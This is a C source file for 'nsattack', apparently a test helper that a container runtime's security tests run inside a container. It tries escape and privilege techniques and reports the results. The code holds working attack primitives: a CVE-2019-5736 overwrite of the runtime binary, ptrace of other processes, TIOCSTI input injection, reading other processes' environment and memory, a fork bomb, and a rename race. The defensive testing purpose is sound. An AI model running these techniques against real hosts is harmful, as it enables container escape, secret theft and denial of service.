/*
 * nsattack: what an attacker inside a container does that busybox cannot.
 *
 * Built static at test time (tests/security/conftest.py) and copied into the
 * test container's rootfs as /bin/nsattack.  Every verb prints one result
 * per line, "key value ...", for the tests to parse.  Nothing here ever
 * writes into a file it managed to open for writing (but overwrite-fd, below):
 * opening is the proof.
 *
 *   open-fds                   every open fd: "fd N TARGET"
 *   ptrace-attach PID          "attached PID" (exit 0) or "denied PID ERRNO" (exit 1)
 *   ptrace-hammer SECONDS      attach to every other process that appears:
 *                              "attached PID EXE" per success, then "done N"
 *   exe-hammer SECONDS         open /proc/PID/exe (O_PATH) of every other
 *                              process, then try O_WRONLY through the fd:
 *                              "opath PID EXE", "wronly PID EXE" per success
 *   write-exe PATH             open(PATH, O_WRONLY): "write-open ok" or "write-open ERRNO"
 *   peek PID                   read another process's /proc/PID/environ ("environ ok",
 *                              then "env ENTRY" per string, or "environ ERRNO"), and the
 *                              same strings from its memory (/proc/PID/mem at env_start):
 *                              "mem ok", "memenv ENTRY" per string, or "mem ERRNO"
 *   overwrite-fd FD SECONDS    CVE-2019-5736 to the end: FD is a file inherited from the
 *                              process that exec'd us (its /proc/self/exe): "holding EXE";
 *                              retry opening it for writing until SECONDS are over, and
 *                              once open, WRITE "PWND" at its start: "written EXE" or
 *                              "write-failed EXE ERRNO"; else "never-writable EXE ERRNO".
 *                              The one verb that writes: for tests whose target is a
 *                              throwaway copy (a --copies venv's interpreter).
 *   tiocsti FD TEXT            push TEXT into FD's input queue: "tiocsti ok" or "tiocsti ERRNO"
 *   keyctl show                "session ID DESCRIPTION" of the session keyring
 *   keyctl read ID             "read ok DATA" or "read ERRNO"
 *   keyctl add DESC DATA       a user key in the session keyring: "added ID"
 *   keyctl join NAME           join (or make) the session keyring NAME, then show it
 *   memhog MB                  allocate and touch MB MiB: "touched N" per MiB chunk of 16
 *   forkbomb N                 fork up to N sleeping children: "forked K [ERRNO]";
 *                              kills and reaps them before exiting
 *   mknod-block PATH           a block device node (8:0): "mknod ok" or "mknod ERRNO"
 *   mount-tmpfs PATH           "mount ok" or "mount ERRNO"
 *   swap A B SECONDS [PAUSE_US] exchange A and B (renameat2 RENAME_EXCHANGE) as fast as
 *                              possible, or every PAUSE_US microseconds, on the host, to
 *                              race the runtime: "swapped N"
 *   procview DIR               through one fd of DIR (immune to renames meanwhile):
 *                              "procview DIR proc|other KCORE_BYTES WRITE_RESULT" where
 *                              WRITE_RESULT is opening sys/kernel/domainname for writing
 *   caps                       "CapInh X" ... from /proc/self/status, and "dumpable N"
 *   tty                        "ctty ok|ERRNO" for opening /dev/tty, and the sid/pgrp
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <limits.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mount.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/vfs.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/types.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

/* linux/keyctl.h, without needing the header or libkeyutils. */
#define KEY_SPEC_SESSION_KEYRING (-3)
#define KEYCTL_GET_KEYRING_ID 0
#define KEYCTL_JOIN_SESSION_KEYRING 1
#define KEYCTL_DESCRIBE 6
#define KEYCTL_READ 11

static const char *errname(int e)
{
    switch (e) {
    case EPERM: return "EPERM";
    case EACCES: return "EACCES";
    case ENOENT: return "ENOENT";
    case ESRCH: return "ESRCH";
    case ETXTBSY: return "ETXTBSY";
    case EROFS: return "EROFS";
    case EIO: return "EIO";
    case ENXIO: return "ENXIO";
    case EINVAL: return "EINVAL";
    case ENOTTY: return "ENOTTY";
    case EAGAIN: return "EAGAIN";
    case ENOMEM: return "ENOMEM";
    case EKEYREVOKED: return "EKEYREVOKED";
    case ENOKEY: return "ENOKEY";
    case EOPNOTSUPP: return "EOPNOTSUPP";
    case ELOOP: return "ELOOP";
    case EBADF: return "EBADF";
    default: return strerror(e);
    }
}

static double now(void)
{
    struct timespec ts;
    clock_gettime(CLOCK_MONOTONIC, &ts);
    return ts.tv_sec + ts.tv_nsec / 1e9;
}

static int open_fds(void)
{
    DIR *d = opendir("/proc/self/fd");
    if (!d) {
        printf("error %s\n", errname(errno));
        return 1;
    }
    struct dirent *e;
    while ((e = readdir(d))) {
        if (e->d_name[0] == '.' || atoi(e->d_name) == dirfd(d))
            continue;
        char path[300], target[PATH_MAX];
        snprintf(path, sizeof path, "/proc/self/fd/%s", e->d_name);
        ssize_t n = readlink(path, target, sizeof target - 1);
        target[n < 0 ? 0 : n] = 0;
        printf("fd %s %s\n", e->d_name, target);
    }
    closedir(d);
    return 0;
}

/* Attach, stop, detach: the tracee goes on as if nothing happened. */
static int attach(pid_t pid)
{
    if (ptrace(PTRACE_SEIZE, pid, 0, 0) < 0)
        return -errno;
    if (ptrace(PTRACE_INTERRUPT, pid, 0, 0) == 0)
        waitpid(pid, NULL, __WALL);
    ptrace(PTRACE_DETACH, pid, 0, 0);
    return 0;
}

static int ptrace_attach(pid_t pid)
{
    int r = attach(pid);
    if (r == 0) {
        printf("attached %d\n", pid);
        return 0;
    }
    printf("denied %d %s\n", pid, errname(-r));
    return 1;
}

static void exe_of(pid_t pid, char *buf, size_t len)
{
    char path[64];
    snprintf(path, sizeof path, "/proc/%d/exe", pid);
    ssize_t n = readlink(path, buf, len - 1);
    buf[n < 0 ? 0 : n] = 0;
    if (n < 0)
        snprintf(buf, len, "?%s", errname(errno));
}

/* Each pid of /proc other than ours and our parent's, once: calls fn(pid). */
static void each_new_pid(char *seen, int (*fn)(pid_t))
{
    DIR *d = opendir("/proc");
    if (!d)
        return;
    struct dirent *e;
    while ((e = readdir(d))) {
        pid_t pid = atoi(e->d_name);
        if (pid <= 0 || pid >= 4194304 || pid == getpid() || pid == getppid() || seen[pid])
            continue;
        if (fn(pid))
            seen[pid] = 1;
    }
    closedir(d);
}

static int hammered;

static int try_ptrace(pid_t pid)
{
    if (attach(pid) < 0)
        return 0; /* denied: try again, it may still be setting up */
    char exe[PATH_MAX];
    exe_of(pid, exe, sizeof exe);
    printf("attached %d %s\n", pid, exe);
    fflush(stdout);
    hammered++;
    return 1;
}

static int try_exe(pid_t pid)
{
    char path[64], exe[PATH_MAX], via[64];
    snprintf(path, sizeof path, "/proc/%d/exe", pid);
    int fd = open(path, O_PATH | O_CLOEXEC);
    if (fd < 0)
        return 0;
    exe_of(pid, exe, sizeof exe);
    printf("opath %d %s\n", pid, exe);
    /* CVE-2019-5736: reopen the held fd for writing (never written to). */
    snprintf(via, sizeof via, "/proc/self/fd/%d", fd);
    int w = open(via, O_WRONLY | O_CLOEXEC);
    if (w >= 0) {
        printf("wronly %d %s\n", pid, exe);
        close(w);
    }
    fflush(stdout);
    close(fd);
    hammered++;
    return 1;
}

static int hammer(double seconds, int (*fn)(pid_t))
{
    char *seen = calloc(4194304, 1);
    double end = now() + seconds;
    printf("hammering\n");
    fflush(stdout);
    while (now() < end)
        each_new_pid(seen, fn);
    printf("done %d\n", hammered);
    return 0;
}

static int overwrite_fd(int fd, double seconds)
{
    char via[64], exe[PATH_MAX];
    snprintf(via, sizeof via, "/proc/self/fd/%d", fd);
    ssize_t n = readlink(via, exe, sizeof exe - 1);
    exe[n < 0 ? 0 : n] = 0;
    printf("holding %s\n", exe);
    double end = now() + seconds;
    while (now() < end) {
        int w = open(via, O_WRONLY | O_CLOEXEC);
        if (w < 0) {
            usleep(2000); /* ETXTBSY while something runs it: wait */
            continue;
        }
        if (pwrite(w, "PWND", 4, 0) == 4)
            printf("written %s\n", exe);
        else
            printf("write-failed %s %s\n", exe, errname(errno));
        close(w);
        return 0;
    }
    printf("never-writable %s %s\n", exe, errname(errno));
    return 1;
}

static int write_exe(const char *path)
{
    int fd = open(path, O_WRONLY | O_CLOEXEC);
    if (fd < 0) {
        printf("write-open %s\n", errname(errno));
        return 1;
    }
    printf("write-open ok\n");
    close(fd);
    return 0;
}

static int tiocsti(int fd, const char *text)
{
    for (const char *c = text; *c; c++) {
        if (ioctl(fd, TIOCSTI, c) < 0) {
            printf("tiocsti %s\n", errname(errno));
            return 1;
        }
    }
    printf("tiocsti ok\n");
    return 0;
}

static int keyctl_verb(int argc, char **argv)
{
    if (argc >= 4 && !strcmp(argv[0], "then")) {
        /* "then VERB ARGS... -- VERB ARGS...": two keyctl verbs in one process (one session keyring). */
        int split = 1;
        while (split < argc && strcmp(argv[split], "--"))
            split++;
        int r = keyctl_verb(split - 1, argv + 1);
        return split < argc ? keyctl_verb(argc - split - 1, argv + split + 1) | r : r;
    }
    if (argc >= 1 && !strcmp(argv[0], "show")) {
        long id = syscall(SYS_keyctl, KEYCTL_GET_KEYRING_ID, KEY_SPEC_SESSION_KEYRING, 0);
        if (id < 0) {
            printf("session %s\n", errname(errno));
            return 1;
        }
        char desc[512] = "";
        long n = syscall(SYS_keyctl, KEYCTL_DESCRIBE, id, desc, sizeof desc - 1);
        desc[n < 0 ? 0 : (n < (long)sizeof desc ? n : (long)sizeof desc - 1)] = 0;
        printf("session %ld %s\n", id, desc);
        return 0;
    }
    if (argc >= 2 && !strcmp(argv[0], "read")) {
        char data[4096];
        long n = syscall(SYS_keyctl, KEYCTL_READ, atol(argv[1]), data, sizeof data - 1);
        if (n < 0) {
            printf("read %s\n", errname(errno));
            return 1;
        }
        data[n < (long)sizeof data ? n : (long)sizeof data - 1] = 0;
        printf("read ok %s\n", data);
        return 0;
    }
    if (argc >= 2 && !strcmp(argv[0], "join")) {
        if (syscall(SYS_keyctl, KEYCTL_JOIN_SESSION_KEYRING, argv[1]) < 0) {
            printf("join %s\n", errname(errno));
            return 1;
        }
        char *show[] = {"show"};
        return keyctl_verb(1, show);
    }
    if (argc >= 3 && !strcmp(argv[0], "add")) {
        long id = syscall(SYS_add_key, "user", argv[1], argv[2], strlen(argv[2]), KEY_SPEC_SESSION_KEYRING);
        if (id < 0) {
            printf("add %s\n", errname(errno));
            return 1;
        }
        printf("added %ld\n", id);
        return 0;
    }
    fprintf(stderr, "usage: keyctl show | read ID | add DESC DATA\n");
    return 2;
}

static int memhog(long mb)
{
    long chunk = 1 << 20;
    for (long i = 0; i < mb; i++) {
        char *p = malloc(chunk);
        if (!p) {
            printf("malloc failed at %ld\n", i);
            return 1;
        }
        memset(p, 1, chunk);
        if ((i + 1) % 16 == 0) {
            printf("touched %ld\n", i + 1);
            fflush(stdout);
        }
    }
    printf("done %ld\n", mb);
    return 0;
}

static int forkbomb(int n)
{
    pid_t *kids = calloc(n, sizeof *kids);
    int k = 0, err = 0;
    for (; k < n; k++) {
        pid_t p = fork();
        if (p < 0) {
            err = errno;
            break;
        }
        if (p == 0) {
            pause();
            _exit(0);
        }
        kids[k] = p;
    }
    if (err)
        printf("forked %d %s\n", k, errname(err));
    else
        printf("forked %d\n", k);
    fflush(stdout);
    for (int i = 0; i < k; i++)
        kill(kids[i], SIGKILL);
    for (int i = 0; i < k; i++)
        waitpid(kids[i], NULL, 0);
    return 0;
}

static int mknod_block(const char *path)
{
    if (mknod(path, S_IFBLK | 0600, makedev(8, 0)) < 0) {
        printf("mknod %s\n", errname(errno));
        return 1;
    }
    printf("mknod ok\n");
    unlink(path);
    return 0;
}

static int mount_tmpfs(const char *path)
{
    if (mount("tmpfs", path, "tmpfs", 0, NULL) < 0) {
        printf("mount %s\n", errname(errno));
        return 1;
    }
    printf("mount ok\n");
    umount2(path, MNT_DETACH);
    return 0;
}

static int swap(const char *a, const char *b, double seconds, long pause_us)
{
    double end = now() + seconds;
    long n = 0;
    while (now() < end) {
        for (int i = 0; i < (pause_us ? 1 : 1000); i++)
            if (syscall(SYS_renameat2, AT_FDCWD, a, AT_FDCWD, b, RENAME_EXCHANGE) == 0)
                n++;
        if (pause_us)
            usleep(pause_us);
    }
    /* Leave them as they were: an even number of exchanges. */
    if (n % 2 && syscall(SYS_renameat2, AT_FDCWD, a, AT_FDCWD, b, RENAME_EXCHANGE) == 0)
        n++;
    printf("swapped %ld\n", n);
    return 0;
}

static int procview(const char *dir)
{
    int fd = open(dir, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
    struct statfs sf;
    if (fd < 0 || fstatfs(fd, &sf) < 0) {
        printf("procview %s none 0 %s\n", dir, errname(errno));
        return 1;
    }
    char buf[100];
    long got = 0;
    int k = openat(fd, "kcore", O_RDONLY | O_CLOEXEC);
    if (k >= 0) {
        got = read(k, buf, sizeof buf);
        close(k);
    }
    int w = openat(fd, "sys/kernel/domainname", O_WRONLY | O_CLOEXEC);
    const char *wr = w >= 0 ? "ok" : errname(errno);
    if (w >= 0)
        close(w);
    printf("procview %s %s %ld %s\n", dir, sf.f_type == 0x9fa0 ? "proc" : "other", got < 0 ? 0 : got, wr);
    close(fd);
    return 0;
}

/* Print the NUL-separated strings of BUF, one "KEY STRING" line each. */
static void print_strings(const char *key, const char *buf, ssize_t len)
{
    for (ssize_t i = 0; i < len; i += strlen(buf + i) + 1)
        if (buf[i])
            printf("%s %s\n", key, buf + i);
}

static int peek(pid_t pid)
{
    static char buf[65536];
    char path[64];
    /* What /proc/PID/environ shows: PTRACE_MODE_READ (proc(5)). */
    snprintf(path, sizeof path, "/proc/%d/environ", pid);
    int fd = open(path, O_RDONLY | O_CLOEXEC);
    ssize_t n = fd < 0 ? -1 : read(fd, buf, sizeof buf - 1);
    if (n < 0) {
        printf("environ %s\n", errname(errno));
    } else {
        printf("environ ok\n");
        buf[n] = 0;
        print_strings("env", buf, n);
    }
    if (fd >= 0)
        close(fd);
    /* The same strings read from its memory: PTRACE_MODE_ATTACH (proc(5), /proc/PID/mem). */
    unsigned long start = 0, end = 0;
    snprintf(path, sizeof path, "/proc/%d/stat", pid);
    FILE *f = fopen(path, "r");
    if (f && fgets(buf, sizeof buf, f)) {
        char *p = strrchr(buf, ')');
        for (int field = 2; p && field < 50; field++)
            p = strchr(p + 1, ' ');
        if (p)
            sscanf(p + 1, "%lu %lu", &start, &end);
    }
    if (f)
        fclose(f);
    snprintf(path, sizeof path, "/proc/%d/mem", pid);
    fd = open(path, O_RDONLY | O_CLOEXEC);
    if (fd < 0) {
        printf("mem %s\n", errname(errno));
        return 0;
    }
    size_t want = end > start && end - start < sizeof buf ? end - start : 0;
    n = pread(fd, buf, want, (off_t)start);
    if (n < 0) {
        printf("mem %s\n", errname(errno));
    } else {
        printf("mem ok\n");
        print_strings("memenv", buf, n);
    }
    close(fd);
    return 0;
}

static int caps(void)
{
    FILE *f = fopen("/proc/self/status", "r");
    char line[256];
    while (f && fgets(line, sizeof line, f))
        if (!strncmp(line, "Cap", 3) || !strncmp(line, "NoNewPrivs", 10))
            fputs(line, stdout);
    if (f)
        fclose(f);
    printf("dumpable %d\n", prctl(PR_GET_DUMPABLE));
    return 0;
}

static int tty(void)
{
    int fd = open("/dev/tty", O_RDWR | O_CLOEXEC);
    if (fd < 0)
        printf("ctty %s\n", errname(errno));
    else {
        printf("ctty ok\n");
        close(fd);
    }
    printf("sid %d pgrp %d\n", getsid(0), getpgrp());
    return 0;
}

int main(int argc, char **argv)
{
    setvbuf(stdout, NULL, _IOLBF, 0);
    if (argc < 2) {
        fprintf(stderr, "usage: nsattack VERB [ARGS]\n");
        return 2;
    }
    const char *verb = argv[1];
    if (!strcmp(verb, "open-fds"))
        return open_fds();
    if (!strcmp(verb, "ptrace-attach") && argc > 2)
        return ptrace_attach(atoi(argv[2]));
    if (!strcmp(verb, "ptrace-hammer") && argc > 2)
        return hammer(atof(argv[2]), try_ptrace);
    if (!strcmp(verb, "exe-hammer") && argc > 2)
        return hammer(atof(argv[2]), try_exe);
    if (!strcmp(verb, "write-exe") && argc > 2)
        return write_exe(argv[2]);
    if (!strcmp(verb, "overwrite-fd") && argc > 3)
        return overwrite_fd(atoi(argv[2]), atof(argv[3]));
    if (!strcmp(verb, "tiocsti") && argc > 3)
        return tiocsti(atoi(argv[2]), argv[3]);
    if (!strcmp(verb, "keyctl"))
        return keyctl_verb(argc - 2, argv + 2);
    if (!strcmp(verb, "memhog") && argc > 2)
        return memhog(atol(argv[2]));
    if (!strcmp(verb, "forkbomb") && argc > 2)
        return forkbomb(atoi(argv[2]));
    if (!strcmp(verb, "mknod-block") && argc > 2)
        return mknod_block(argv[2]);
    if (!strcmp(verb, "mount-tmpfs") && argc > 2)
        return mount_tmpfs(argv[2]);
    if (!strcmp(verb, "swap") && argc > 4)
        return swap(argv[2], argv[3], atof(argv[4]), argc > 5 ? atol(argv[5]) : 0);
    if (!strcmp(verb, "procview") && argc > 2)
        return procview(argv[2]);
    if (!strcmp(verb, "peek") && argc > 2)
        return peek(atoi(argv[2]));
    if (!strcmp(verb, "caps"))
        return caps();
    if (!strcmp(verb, "tty"))
        return tty();
    fprintf(stderr, "nsattack: unknown verb or missing argument: %s\n", verb);
    return 2;
}
